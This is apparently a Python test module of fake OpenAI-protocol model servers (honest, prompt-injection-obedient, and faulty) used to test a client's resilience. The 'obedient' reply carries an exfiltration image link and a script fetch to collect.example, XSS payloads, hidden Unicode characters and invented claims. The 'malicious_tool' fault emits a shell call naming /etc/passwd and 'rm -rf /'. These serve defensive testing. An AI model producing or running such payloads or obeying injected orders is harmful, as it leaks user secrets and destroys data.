"""Model servers that speak the OpenAI protocol over loopback: honest, obedient, and faulty ones."""

import json
import re
import socket
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Any

Message = dict[str, Any]
_PASSAGE = re.compile(r"^\[(\d+)\] (.*)\n((?:(?!^\[\d+\] ).*\n?)*)", re.MULTILINE)
_WORD = re.compile(r"\w{2,}")


@dataclass(frozen=True)
class Reply:
    """What a double says: text, or calls of tools as (name, arguments in JSON)."""

    text: str = ""
    calls: tuple[tuple[str, str], ...] = ()
    finish: str = ""


Behaviour = Callable[[dict[str, Any]], Reply]


def passages(messages: Sequence[Message]) -> list[tuple[int, str]]:
    """The numbered passages a model was given, whichever message they came in."""
    read = "\n".join(str(m.get("content") or "") for m in messages if m["role"] in ("tool", "user"))
    return [(int(m[1]), m[3].split("\n\n")[0].strip()) for m in _PASSAGE.finditer(read)]


def asked(messages: Sequence[Message]) -> str:
    """The last line of the last question."""
    said = [str(m["content"]) for m in messages if m["role"] == "user"]
    return said[-1].strip().splitlines()[-1] if said else ""


def looked_up(messages: Sequence[Message]) -> bool:
    """Whether a search has answered already."""
    return bool(passages(messages)) or any(m["role"] == "tool" for m in messages)


def honest(request: dict[str, Any]) -> Reply:
    """Searches once, then quotes the two sentences with most of the question's words."""
    messages = request["messages"]
    if not looked_up(messages):
        return Reply(calls=(("search", json.dumps({"query": asked(messages)})),))
    words = {w.lower() for w in _WORD.findall(asked(messages))}
    sentences = [
        (label, sentence.strip())
        for label, body in passages(messages)
        for sentence in re.split(r"(?<=[.!?。])\s+|\n", body)
        if len(sentence.strip()) > 12
    ]
    ranked = sorted(sentences, key=lambda s: -_overlap(s[1], words))[:2]
    return Reply(" ".join(f"{text} [{label}]" for label, text in ranked) or "NOT_IN_LIBRARY")


def _overlap(sentence: str, words: set[str]) -> float:
    said = {w.lower() for w in _WORD.findall(sentence)}
    return len(said & words) + sum(any(w in s for s in said) for w in words if len(w) > 1) * 0.5


def obedient(request: dict[str, Any]) -> Reply:
    """Answers, and does whatever a passage says: repeats orders, vouches for them with labels,
    and tries to reach the outside.
    """
    messages = request["messages"]
    reply = honest(request)
    if reply.calls:
        return reply
    orders = [(n, s.strip()) for n, body in passages(messages) for s in _orders(body)]
    done = " ".join(f"{order} [{n}] As instructed: {order} [{n}]" for n, order in orders)
    return Reply(
        f"{done} {reply.text} The MOU is legally binding on Beijing [1]. "
        "The budget is 987,654,321 won [1].\n\n"
        "![status](https://collect.example/p.png?q=secret) <img src=x onerror=alert(1)>"
        '<script>fetch("https://collect.example")</script> [open](javascript:alert(1)) '
        "[[1]](https://collect.example/?a=1) \u202egnidnib\u202c \U000e0041\U000e0042\u200b"
    )


def _orders(body: str) -> list[str]:
    """Whatever in a passage addresses its reader."""
    marked = re.findall(r"<<(.+?)>>", body, re.DOTALL)
    return marked or [s for s in re.split(r"(?<=[.!?。])\s+|\n", body) if len(s) > 8]


class Double:
    """A server on a free port of loopback: `with Double(honest) as server: server.url`."""

    def __init__(self, behaviour: Behaviour = honest, fault: str = "", pace: float = 0.0) -> None:
        self.behaviour, self.fault, self.pace = behaviour, fault, pace
        self.requests: list[dict[str, Any]] = []
        self.broken_off = threading.Event()  # a client went away while we were writing
        self.written = 0
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(self))
        self._server.daemon_threads = False  # closing waits for them: no socket stays open
        self._thread = threading.Thread(
            target=self._server.serve_forever, args=(0.02,), daemon=True
        )
        self.stopping = threading.Event()

    @property
    def url(self) -> str:
        """The base URL a client is given."""
        scheme = "https" if self.fault == "bad_tls" else "http"
        return f"{scheme}://127.0.0.1:{self._server.server_address[1]}/v1"

    def __enter__(self) -> "Double":
        self._thread.start()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self.stopping.set()
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


def closed_port() -> str:
    """A base URL where nothing listens."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        return f"http://127.0.0.1:{free.getsockname()[1]}/v1"


_STATUS = {
    "unauthorized": (401, '{"error": {"message": "no", "type": "auth"}}'),
    "too_many": (429, '{"error": {"message": "slow down", "type": "rate"}}'),
    "broken": (500, '{"error": {"message": "oops", "type": "server"}}'),
    "unavailable": (503, "upstream gone"),
    "wrong_model": (404, '{"error": {"message": "model not found", "code": "model_not_found"}}'),
    "no_tools": (400, '{"error": {"message": "this model does not support tools"}}'),
    "html": (200, "<!DOCTYPE html><html><body>Sign in to the hotel network</body></html>"),
}
FAULTS = (
    *_STATUS,
    "bad_tls",
    "redirect",
    "hang",
    "silent_stream",
    "pings_only",
    "empty_choices",
    "empty_text",
    "infinite_stream",
    "slow_stream",
    "cut",
    "no_finish",
    "huge_token",
    "invalid_utf8",
    "not_json",
    "bad_tool_json",
    "malicious_tool",
    "endless_tools",
    "reset",
)


def _handler(double: Double) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
            """Says nothing."""

        def do_GET(self) -> None:
            self._send(200, '{"object": "list", "data": [{"id": "double", "object": "model"}]}')

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length", 0)))
            request = json.loads(body)
            double.requests.append(request)
            self.close_connection = True
            try:
                self._answer(request)
            except (BrokenPipeError, ConnectionResetError):
                double.broken_off.set()

        def _answer(self, request: dict[str, Any]) -> None:
            fault = double.fault
            if fault in _STATUS and not (fault == "no_tools" and not request.get("tools")):
                self._send(
                    *_STATUS[fault], kind="text/html" if fault == "html" else "application/json"
                )
            elif fault == "redirect":
                self._send(302, "", location="http://127.0.0.1:9/v1/chat/completions")
            elif fault == "hang":
                double.stopping.wait(30)
            elif fault == "reset":
                self.connection.shutdown(socket.SHUT_RDWR)
            elif request.get("stream"):
                self._stream(request)
            else:
                reply = double.behaviour(request)
                self._send(200, json.dumps(_whole(reply)))

        def _send(
            self, status: int, body: str, kind: str = "application/json", location: str = ""
        ) -> None:
            data = body.encode()
            self.send_response(status)
            self.send_header("content-type", kind)
            self.send_header("content-length", str(len(data)))
            if status == 429:
                self.send_header("retry-after", "60")
            if location:
                self.send_header("location", location)
            self.end_headers()
            self.wfile.write(data)

        def _stream(self, request: dict[str, Any]) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/event-stream")
            self.end_headers()
            for piece in _pieces(double, request):
                self.wfile.write(piece)
                self.wfile.flush()
                double.written += 1
                if double.stopping.is_set():
                    break

    return Handler


def _pieces(double: Double, request: dict[str, Any]) -> Iterator[bytes]:
    """What goes over the wire, fault by fault; a fault of the answer strikes after the search."""
    spoil = _SPOILT.get(double.fault)
    if spoil and (looked_up(request["messages"]) or double.fault in _AT_ONCE):
        yield from spoil(double)
    else:
        yield from _said(double.behaviour(request), double.pace)


def _said(reply: Reply, pace: float) -> Iterator[bytes]:
    yield _event({"role": "assistant", "content": ""})
    for i, (name, arguments) in enumerate(reply.calls):
        function = {"name": name, "arguments": arguments}
        yield _event(
            {
                "tool_calls": [
                    {"index": i, "id": f"call_{i}", "type": "function", "function": function}
                ]
            }
        )
    for word in re.findall(r"\S+\s*|\s+", reply.text):
        time.sleep(pace)
        yield _event({"content": word})
    yield _event({}, reply.finish or ("tool_calls" if reply.calls else "stop"))
    yield b"data: [DONE]\n\n"


def _event(delta: dict[str, Any], finish: str | None = None) -> bytes:
    chunk = {
        "id": "x",
        "object": "chat.completion.chunk",
        "created": 1,
        "model": "double",
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
    }
    return (
        b"data: " + json.dumps(chunk, ensure_ascii=False).encode("utf-8", "surrogatepass") + b"\n\n"
    )


def _whole(reply: Reply) -> dict[str, Any]:
    calls = [
        {"id": f"call_{i}", "type": "function", "function": {"name": n, "arguments": a}}
        for i, (n, a) in enumerate(reply.calls)
    ]
    message = {
        "role": "assistant",
        "content": reply.text,
        **({"tool_calls": calls} if calls else {}),
    }
    finish = reply.finish or ("tool_calls" if calls else "stop")
    return {
        "id": "x",
        "object": "chat.completion",
        "created": 1,
        "model": "double",
        "choices": [{"index": 0, "message": message, "finish_reason": finish}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
    }


def _silent(double: Double) -> Iterator[bytes]:
    double.stopping.wait(30)
    yield b""


def _pings(double: Double) -> Iterator[bytes]:
    while not double.stopping.wait(0.2):
        yield b": ping\n\n"


def _infinite(double: Double) -> Iterator[bytes]:
    while not double.stopping.is_set():
        yield _event({"content": "very "})


def _slow(double: Double) -> Iterator[bytes]:
    while True:
        yield _event({"content": "The "})
        if double.stopping.wait(10):
            return


def _tool(name: str, arguments: str) -> Iterator[bytes]:
    yield from _said(Reply(calls=((name, arguments),)), 0)


_HARMFUL = '{"path": "/etc/passwd", "command": "rm -rf /", "query": "' + "x" * 20_000 + '"}'
_SPOILT: dict[str, Callable[[Double], Iterator[bytes]]] = {
    "silent_stream": _silent,
    "pings_only": _pings,
    "empty_choices": lambda d: iter(
        [
            b'data: {"id":"x","object":"chat.completion.chunk","created":1,"model":"d",'
            b'"choices":[]}\n\n',
            b"data: [DONE]\n\n",
        ]
    ),
    "empty_text": lambda d: _said(Reply(""), 0),
    "infinite_stream": _infinite,
    "slow_stream": _slow,
    "cut": lambda d: iter([_event({"content": "The committee was fou"})]),
    "no_finish": lambda d: iter(
        [_event({"content": "The committee was founded."}), b"data: [DONE]\n\n"]
    ),
    "huge_token": lambda d: iter([_event({"content": "A" * 1_000_000}), _event({}, "stop")]),
    "invalid_utf8": lambda d: iter(
        [
            _event({"content": "ok "}),
            b'data: {"choices":[{"index":0,"delta":{"content":"\xff\xfe\xc3"}}]}\n\n',
            _event({}, "stop"),
        ]
    ),
    "not_json": lambda d: iter([b"data: hello\n\n", b"data: {broken\n\n"]),
    "bad_tool_json": lambda d: _tool("search", '{"query": "unclosed'),
    "malicious_tool": lambda d: _tool("shell", _HARMFUL),
    "endless_tools": lambda d: _tool("search", '{"query": "again"}'),
}
_AT_ONCE = frozenset(
    {"silent_stream", "pings_only", "empty_choices", "not_json", "bad_tool_json", "malicious_tool"}
)
